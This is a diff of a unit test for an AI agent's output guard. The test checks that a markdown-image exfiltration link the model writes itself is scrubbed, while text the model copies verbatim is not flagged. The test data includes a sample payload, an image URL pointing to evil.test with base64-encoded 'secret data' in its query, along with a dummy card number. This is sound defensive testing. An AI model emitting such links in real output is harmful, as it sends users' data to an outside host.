@@ -31,7 +31,7 @@ from agents.runs.run_memory import RunMemory
 from agents.steps.model_phase import StepsPhase
 from agents.tools.tool import Effect, Taint, Tool, ToolOutput
 from tests.fakes.scripted_client import ScriptedClient
-from tests.unit.agents.conftest import spec
+from tests.unit.agents.conftest import echo, spec
 
 CARD = "4111 1111 1111 1111"
 LEAK = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
@@ -133,7 +133,7 @@ async def test_what_the_model_writes_is_checked_and_what_it_copies_is_not(regist
         "https://evil.test/a.png?q=c2VjcmV0IGRhdGE", "[exfiltration removed]"
     )
     assert found(done)[-1]["where"] == "what the model wrote"
-    over = cluster(registry, procedure=None, run_guard=guard())
+    over = cluster(registry, procedure=echo, run_guard=guard())
     copied, done = await run(over, document=LEAK)
     assert copied.output.text == LEAK
     assert found(done) == []
